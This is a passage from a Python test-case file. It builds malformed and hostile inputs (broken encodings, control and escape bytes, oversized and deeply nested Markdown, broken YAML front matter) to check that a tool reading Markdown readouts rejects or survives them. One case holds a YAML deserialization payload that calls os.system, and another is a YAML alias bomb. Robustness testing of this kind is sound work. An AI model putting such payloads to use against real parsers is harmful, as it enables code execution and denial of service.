    yield Case("yaml", "yaml-open", "no end", lambda: folder_of(russia=opened), "no closing line")


# -- bytes --------------------------------------------------------------------------------------------

_TEXT = _plain().encode()
_BYTES: dict[str, tuple[str, bytes, str]] = {
    "bom": ("a byte order mark", b"\xef\xbb\xbf" + _TEXT, ""),
    "bom-many": ("some of them", b"\xef\xbb\xbf" * 3 + _TEXT + b"\xef\xbb\xbf", ""),
    "utf-16-le": ("UTF-16", _plain().encode("utf-16-le"), ""),
    "utf-16": ("UTF-16 with a mark", b"\xfe\xff" + _plain().encode("utf-16-be"), ""),
    "utf-16-chinese": (
        "UTF-16 without a zero",
        ("习近平主席会见俄罗斯总统" * 9).encode("utf-16-le"),
        "",
    ),
    "utf-32": ("UTF-32", _plain().encode("utf-32"), ""),
    "utf-7": ("UTF-7", _TEXT + b" +ABs-[31m +AJs-31m +IC4-", ""),
    "cp1251": ("an old encoding", "Россия и Китай".encode("cp1251"), ""),
    "gb18030": ("an old Chinese one", "习近平主席".encode("gb18030"), ""),
    "iso-2022": ("one with escapes", "会談は平和".encode("iso-2022-jp") + b" " + _TEXT, ""),
    "c1-bytes": ("C1 as one byte", _TEXT + b" \x9b31m \x9d0;x\x9c", "not UTF-8: byte 0x9b"),
    "overlong": ("overlong forms of C1 and ESC", _TEXT + b" \xc0\x9b31m \xc1\x9b \xe0\x80\x9b", "not UTF-8"),
    "surrogates": ("halves of pairs", _TEXT + b" \xed\xa0\x80\xed\xb0\x80", "not UTF-8"),
    "beyond": ("beyond the last character", _TEXT + b" \xf4\x90\x80\x80", "not UTF-8"),
    "half": ("half a character at the end", _TEXT + "界".encode()[:2], "not UTF-8"),
    "ends-mixed": ("line ends of all kinds", _TEXT.replace(b"\n\n", b"\r\n\r\n\n\r\r\x0b\x0c"), ""),
    "ends-cr": ("CR alone", _TEXT.replace(b"\n", b"\r"), ""),
    "nul": ("NUL", _TEXT + b"\x00", "binary"),
    "nul-late": ("NUL further below", _TEXT + b" x" * 5000 + b"\x00\x1b[31m\x00", ""),
    "nul-only": ("nothing but NUL", b"\x00" * 4096, "binary"),
    "junk": ("whatever", random.Random(1).randbytes(65536), "binary"),
    "junk-high": (
        "whatever without NUL",
        bytes(random.Random(2).choices(range(1, 256), k=65536)),
        "not UTF-8",
    ),
    "controls": ("controls alone", bytes([*range(1, 32), 127]) * 200, ""),
    "elf": ("a program", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "binary"),
    "gzip": ("something packed", b"\x1f\x8b\x08\x08\xff\xff" * 9, "not UTF-8"),
    "empty": ("nothing", b"", "empty"),
    "blank": ("blanks", b" \n\t\r\n\x0b\x0c\xe2\x80\xa8\xc2\xa0", "empty"),
    "bom-only": ("a mark and nothing", b"\xef\xbb\xbf", "empty"),
    "unseen-only": ("hints and nothing", "\u00ad\ufe0f\u00ad".encode(), "no text"),
    "rule-only": ("a rule", b"***\n", ""),
}


def _bytes() -> Iterator[Case]:
    for name, (tries, data, refused) in _BYTES.items():
        yield Case("bytes", name, tries, partial(folder_of, china=data), refused)
        if name in ("c1-bytes", "nul", "junk"):
            made = partial(folder_of, brief=data)
            yield Case("bytes", f"brief-{name}", f"{tries}, in brief.md", made, refused)


# -- notes --------------------------------------------------------------------------------------------

_NOTES: dict[str, tuple[str, bytes]] = {
    "note-head": ("a head that is broken, with escapes", f"---\n{_ATTACK}: [\n---\n\nx {_ATTACK}\n".encode()),
    "note-binary-head": (
        "bytes in the head",
        b"---\n"
        + "".join(
            f"{k}: {_BINARY}\n" for k in ("author", "updated", "created", "tags", "confidence")
        ).encode()
        + b"---\n\nx\n",
    ),
    "note-number": ("a number without end", f"---\nauthor: 0x{'f' * 20_000}\n---\n\nx\n".encode()),
    "note-number-anchor": (
        "a number without end",
        f"---\nanchor:\n  exact: 0x{'f' * 20_000}\n  paragraph: 0x{'f' * 999}\n---\n\nx\n".encode(),
    ),
    "note-odd": (
        "values of other kinds",
        b"---\nauthor: [a]\nupdated: {a: b}\ncreated: .nan\ntags: {a: b}\nanchor: [x]\n---\n\nx\n",
    ),
    "note-bomb": ("a bomb", b"---\na: &a [x]\nb: [*a, *a]\n---\n\nx\n"),
    "note-object": (
        "an object that runs",
        b'---\nauthor: !!python/object/apply:os.system ["touch PWNED"]\n---\n\nx\n',
    ),
    "note-deep": ("ten thousand brackets", f"---\nauthor: {'[' * DEEP}{']' * DEEP}\n---\n\nx\n".encode()),
    "note-bytes": ("no UTF-8", b"x \x9b31m \xff\xed\xa0\x80\n"),
    "note-junk": ("whatever", random.Random(3).randbytes(4096)),
    "note-nul": ("NUL", b"a\x00b\x1b[31m\n"),
    "note-tags": (
        "tags with whatever",
        "#a\u202eb #c\x1b[31m #\u200bd #e\x9b #[bold] #\ud55c\u3164\n".encode(),
    ),
    "note-empty": ("nothing", b""),
    "note-many-lines": ("fifty thousand lines", b"#tag line\n" * 50_000),
}


def _notes() -> Iterator[Case]:
    for name, (tries, data) in _NOTES.items():
        yield Case("note", name, tries, folder_of, notes={NOTE: data})
    kept = {
        b"20260301T000000.correction.md": note_with(_ATTACK),
        NOTE: b"x",
        b"20260301T000000.conflict-\x1b[31m.md": b"y",
    }
    yield Case("note", "note-correction", "a correction that is none", folder_of, notes=kept)


# -- sizes --------------------------------------------------------------------------------------------

_ROOM = 10 * MB - 16  # bytes: as large as a file may be


def _fill(part: str, size: int = _ROOM) -> str:
    return part * (size // len(part.encode()))


_SENTENCE = "Russia and China agreed on trade in gas for 200 billion in 2026. "
_SIZES: dict[str, tuple[str, Callable[[], Files], str]] = {
    "too-large": ("a byte too much", lambda: folder_of(china=b"x" * (10 * MB + 1)), "larger than 10 MB"),
    "line": ("one line of 10 MB", lambda: folder_of(china=_fill(_SENTENCE)), ""),
    "word": ("one word of 10 MB", lambda: folder_of(china=_fill("x")), ""),
    "word-marked": ("one word of 10 MB, in Markdown", lambda: folder_of(russia=_fill("x")), ""),
    "wide-word": ("10 MB of Chinese without an end", lambda: folder_of(china=_fill("界")), ""),
    "marks-many": ("one letter with 1 MB of marks", lambda: folder_of(china="Z" + _fill("\u0300", MB)), ""),
    "escapes": ("10 MB of escapes", lambda: folder_of(china=_fill(f"{ESC}[31m")), ""),
    "paragraphs": ("10 MB of paragraphs", lambda: folder_of(china=_fill(f"{_SENTENCE}\n\n")), ""),
    "paragraphs-both": (
        "1 MB of paragraphs a side",
        lambda: both(_fill(f"{_SENTENCE}\n\n", MB)),
        "",
    ),
    "different": (
        "5,000 sentences a side, none the same",
        lambda: folder_of(_numbered("Russia"), _numbered("China")),
        "",
    ),
    "headings": ("100,000 headings", lambda: folder_of(russia="# Economy\n\n" * 100_000 + _marked()), ""),
    "items": ("100,000 items", lambda: folder_of(russia="- trade\n" * 100_000), ""),
    "blank-lines": (
        "10 MB of empty lines",
        lambda: folder_of(china=_plain() + _fill("\n", 9 * MB) + "end"),
        "",
    ),
    "spaces": ("10 MB of spaces", lambda: folder_of(china=_plain() + _fill(" \n ", 9 * MB) + "end"), ""),
    "quotes-deep": ("ten thousand quotes deep", lambda: folder_of(russia="> " * DEEP + "trade"), ""),
    "lists-deep": ("ten thousand lists deep", lambda: folder_of(russia="- " * DEEP + "trade"), ""),
    "lists-indented": (
        "a thousand lists deep",
        lambda: folder_of(russia="".join("  " * n + "- trade\n" for n in range(1000))),
        "",
    ),
    "brackets": ("brackets without an end", lambda: folder_of(russia=_fill("[", MB)), ""),
    "brackets-deep": (
        "brackets in brackets",
        lambda: folder_of(russia="[" * DEEP + "trade" + "]" * DEEP),
        "",
    ),
    "links": ("links in links", lambda: folder_of(russia="[a](" * DEEP), ""),
    "images": ("pictures in pictures", lambda: folder_of(russia="![" * DEEP + "trade" + "](x)" * DEEP), ""),
    "emphasis": ("emphasis without an end", lambda: folder_of(russia="*a **a " * 50_000), ""),
    "backticks": (
        "runs of backticks",
        lambda: folder_of(russia=" ".join("`" * n for n in range(1, 2000))),
        "",
    ),
    "angles": ("angle brackets", lambda: folder_of(russia="<a " * 50_000 + "<" * 50_000), ""),
    "entities": ("entities", lambda: folder_of(russia="&#27;" * 100_000), ""),
    "references-many": (
        "50,000 definitions",
        lambda: folder_of(russia="".join(f"[{n}]: /x\n" for n in range(50_000)) + "\ntrade [1]"),
        "",
    ),
    "columns": ("a table of 1,000 columns", lambda: folder_of(russia=_table(1000, 100)), ""),
    "rows": ("a table of 20,000 rows", lambda: folder_of(russia=_table(3, 20_000)), ""),
    "labels-many": (
        "labels without an end",
        lambda: folder_of(china="Ab " * 100_000 + ":" + "A:" * 50_000),
        "",
    ),
    "dots": ("dots", lambda: folder_of(china="Trade grows" + "." * 500_000 + " " + "! " * 200_000), ""),
    "signs": ("emoji without a word", lambda: folder_of(china="Trade grows " + "👩" * 200_000 + " x"), ""),
    "quotation-marks": (
        "quotation marks",
        lambda: folder_of(china="“" * 200_000 + "trade" + "”" * 200_000),
        "",
    ),
    "figures": ("figures", lambda: both(" ".join(map(str, range(100_000)))), ""),
    "days": ("days", lambda: both("4 March 2026 and 5 March 2027, 6 March " * 10_000), ""),
    "names": (
        "names of countries",
        lambda: both("Russia China United States Xi Jinping " * 10_000),
        "",
    ),
    "capitals": ("capitals without an end", lambda: folder_of(china="A" * 200_000 + " Bcd" * 100_000), ""),
    "blocks": ("fences in fences", lambda: folder_of(russia="```\n\n~~~\n\n" * 50_000), ""),
    "head-full": (
        "a head as large as it may be",
        lambda: folder_of(russia=f"---\ntitle: {'界' * 60_000}\nside: russia\n---\n{_marked()}"),
        "",
    ),
    "readouts": (
        "900 readouts",
        lambda: {
            b"brief.md": _brief(),
            **{f"russia-{n}.en.md".encode(): _marked().encode() for n in range(900)},
        },
        "",
    ),
}


def _numbered(side: str) -> str:
    words = ("trade", "gas", "security", "culture", "science", "Ukraine", "space", "ports")
    return "\n\n".join(
        f"{side} said {words[n % 8]} {n} grew in {words[n // 8 % 8]} by {n} tonnes." for n in range(5000)
    )


def _table(columns: int, rows: int) -> str:
    return ("|" + "---|" * columns).join(
        ("|" + " trade |" * columns + "\n", "\n" + ("|" + " x |" * columns + "\n") * rows)
    )


def _sizes() -> Iterator[Case]:
    for name, (tries, files, refused) in _SIZES.items():
        yield Case("size", name, tries, files, refused, heavy=True)


CASES = (*_texts(), *_names(), *_matters(), *_bytes(), *_notes(), *_sizes())
LIGHT = tuple(case for case in CASES if not case.heavy)
HEAVY = tuple(case for case in CASES if case.heavy)
